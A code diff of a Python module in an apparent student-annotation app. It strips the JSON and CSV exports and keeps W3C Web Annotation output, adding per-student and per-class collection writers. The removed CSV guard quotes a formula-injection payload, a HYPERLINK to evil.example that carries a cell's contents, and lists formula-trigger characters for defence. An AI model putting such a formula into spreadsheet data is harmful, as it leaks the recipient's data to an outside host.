@@ -1,23 +1,14 @@
-"""Exports of annotations: the app's own JSON, CSV for spreadsheets, and W3C Web Annotations.
+"""W3C Web Annotations (JSON-LD): highlights that travel to other annotation tools.
 
-Three readers, three formats:
-
-* :func:`annotations_to_json` is lossless: every stored field, in a versioned envelope, so that a
-  teacher's tools (or a later version of the app) can read a student's work back;
-* :func:`annotations_to_csv` is for the teacher's spreadsheet: one flat row per annotation, with
-  text cells guarded against formula injection;
-* :func:`annotations_to_w3c` is a W3C Web Annotation (JSON-LD) ``AnnotationCollection`` so that
-  the highlights can travel to other annotation tools; it passes every MUST assertion of the
-  W3C Web Annotation test suite (see ``tests/test_exports.py``).
-
-All three order annotations the same way (:func:`sort_annotations`), so that two exports of the
-same work are byte-for-byte comparable. This module is pure core: stdlib and ``annotator.core``.
+A student's annotations (``annotator export --format w3c``) and a whole class's
+(``annotator class export --format w3c``) are each one ``AnnotationCollection``; it passes every
+MUST assertion of the W3C Web Annotation test suite (see ``tests/test_exports.py``).
 """
 
 from __future__ import annotations
 
-import csv
-import io
+import functools
+import json
 import re
 import uuid
 from collections.abc import Iterable, Sequence
@@ -27,148 +18,16 @@ from typing import Any
 from urllib.parse import quote
 
 from annotator.core.annotations.annotation import Annotation
-from annotator.core.annotations.record import annotation_to_json
+from annotator.core.formats.inputs import GradedClass, StudentWork
+from annotator.core.formats.order import sort_annotations
+from annotator.core.formats.readable_json import dumps_readable
 from annotator.core.lessons.lesson import Lesson
 
-JSON_FORMAT = "annotator.annotations"
-JSON_FORMAT_VERSION = 1
-
 W3C_CONTEXT = "http://www.w3.org/ns/anno.jsonld"
-
-CSV_COLUMNS: tuple[str, ...] = (
-    "id",
-    "student",
-    "lesson_id",
-    "lesson_version",
-    "article_id",
-    "outlet",
-    "tag",
-    "start",
-    "end",
-    "exact",
-    "note",
-    "created",
-    "modified",
-    "orphaned",
-)
-
-# A cell starting with one of these is read as a formula by Excel, LibreOffice Calc or Google
-# Sheets (OWASP "CSV Injection"; OWASP ASVS 5.0 1.2.10 adds NUL). Tab and CR matter because some
-# importers strip them and then see the "=" behind them.
-FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0")
 
 # An absolute URI (RFC 3986 scheme followed by ':'), enough to refuse a collection id such as
 # "my export" that would make the whole collection non-conformant.
 _ABSOLUTE_URI = re.compile(r"^[A-Za-z][A-Za-z0-9+.\-]*:\S+$")
-
-
-def sort_annotations(annotations: Iterable[Annotation], lesson: Lesson | None) -> list[Annotation]:
-    """Annotations in export order: article order of ``lesson``, then start, then id.
-
-    The order is total (the id breaks every tie), so exports are reproducible. Annotations whose
-    article is not in ``lesson`` (another lesson, a removed article) or when no lesson is given
-    come after the known articles, grouped by lesson id and article id.
-    """
-    rank: dict[tuple[str, str], int] = {}
-    if lesson is not None:
-        rank = {(lesson.id, article.id): i for i, article in enumerate(lesson.articles)}
-    unknown = len(rank)
-
-    def key(annotation: Annotation) -> tuple[int, str, str, int, str]:
-        return (
-            rank.get((annotation.lesson_id, annotation.article_id), unknown),
-            annotation.lesson_id,
-            annotation.article_id,
-            annotation.start,
-            annotation.id,
-        )
-
-    return sorted(annotations, key=key)
-
-
-def _outlet(annotation: Annotation, lesson: Lesson | None) -> str:
-    """The article's outlet, when the annotation belongs to ``lesson`` and its article is there."""
-    if lesson is None or annotation.lesson_id != lesson.id:
-        return ""
-    if not lesson.has_article(annotation.article_id):
-        return ""
-    return lesson.article(annotation.article_id).outlet
-
-
-# --- the app's own JSON ----------------------------------------------------------------------
-
-
-def annotations_to_json(annotations: Iterable[Annotation], lesson: Lesson | None) -> dict:
-    """A JSON-able document holding every stored field of every annotation.
-
-    Values are exported as stored (timestamps are not reformatted, orphaned annotations are kept)
-    because this is the format meant to be read back. ``format`` and ``format_version`` let a
-    reader refuse a document it does not understand instead of misreading it.
-    """
-    return {
-        "format": JSON_FORMAT,
-        "format_version": JSON_FORMAT_VERSION,
-        "lesson": None
-        if lesson is None
-        else {
-            "id": lesson.id,
-            "version": lesson.version,
-            "content_hash": lesson.content_hash,
-            "title": lesson.title,
-        },
-        "annotations": [annotation_to_json(a) for a in sort_annotations(annotations, lesson)],
-    }
-
-
-# --- CSV for spreadsheets --------------------------------------------------------------------
-
-
-def guard_formula(cell: str) -> str:
-    """``cell`` with a leading apostrophe if a spreadsheet would run it as a formula.
-
-    Students type notes and the quoted text comes from news articles; a teacher opens the CSV in a
-    spreadsheet. A note such as ``=HYPERLINK("http://evil.example/?"&A1, "click")`` would then be
-    evaluated on the teacher's machine (it can leak other cells, or worse through DDE). The
-    apostrophe makes the spreadsheet treat the cell as text. The price is a visible apostrophe
-    in plain-text readers of the CSV; the JSON export is the lossless one.
-    """
-    return "'" + cell if cell.startswith(FORMULA_TRIGGERS) else cell
-
-
-def annotations_to_csv(annotations: Iterable[Annotation], lesson: Lesson | None) -> str:
-    """A header and one row per annotation, columns as in :data:`CSV_COLUMNS`.
-
-    The header is the same with or without a lesson (``outlet`` is then empty) so that
-    spreadsheet templates and scripts can rely on the column positions. Quoting is left to the
-    :mod:`csv` module (RFC 4180: fields holding commas, quotes or line breaks are quoted), so
-    notes and quotes keep their newlines, quotes, non-ASCII and emoji. Write the result with
-    ``newline=""`` and, for Excel to detect UTF-8, ``encoding="utf-8-sig"``.
-    """
-    out = io.StringIO(newline="")
-    writer = csv.writer(out, lineterminator="\r\n")
-    writer.writerow(CSV_COLUMNS)
-    for annotation in sort_annotations(annotations, lesson):
-        row = (
-            annotation.id,
-            annotation.student,
-            annotation.lesson_id,
-            annotation.lesson_version,
-            annotation.article_id,
-            _outlet(annotation, lesson),
-            annotation.tag,
-            str(annotation.start),
-            str(annotation.end),
-            annotation.quote.exact,
-            annotation.note,
-            annotation.created,
-            annotation.modified,
-            "true" if annotation.orphaned else "false",
-        )
-        writer.writerow([guard_formula(cell) for cell in row])
-    return out.getvalue()
-
-
-# --- W3C Web Annotation ----------------------------------------------------------------------
 
 
 def _iri_segment(value: str) -> str:
@@ -329,3 +188,35 @@ def w3c_collection(
         }
         collection["last"] = page_id
     return collection
+
+
+def w3c_file(work: StudentWork) -> str:
+    """A student's annotations as the collection ``annotator export --format w3c`` writes: named
+    after the lesson and its version, or "all lessons" when no lesson is given."""
+    lesson = work.lesson
+    scope = f"{lesson.id}:{lesson.version}" if lesson else "all-lessons"
+    collection = annotations_to_w3c(
+        work.annotations,
+        lesson,
+        collection_id=article_iri("export", scope, "annotations"),
+        label=f"Annotations: {lesson.title}" if lesson else "Annotations",
+    )
+    return json.dumps(collection, indent=2, ensure_ascii=False)
+
+
+def class_w3c_file(graded: GradedClass) -> str:
+    """Every annotation of the class as one collection, one annotation per line.
+
+    The encoder makes the JSON of each annotation as it writes it (``default``): a class's
+    12,000 annotations as dicts made 50,000 to 100,000 objects at once, and the garbage
+    collections they set off cost 50 to 100 ms.
+    """
+    lesson = graded.lesson
+    annotations = [a for result in graded.results for a in result.annotations]
+    collection = w3c_collection(
+        sort_annotations(annotations, lesson),
+        collection_id=article_iri(lesson.id, lesson.version, "class"),
+        label=f"Class annotations: {lesson.title}",
+    )
+    to_w3c = functools.partial(annotation_to_w3c, lesson=lesson)
+    return dumps_readable(collection, depth=3, default=to_w3c)
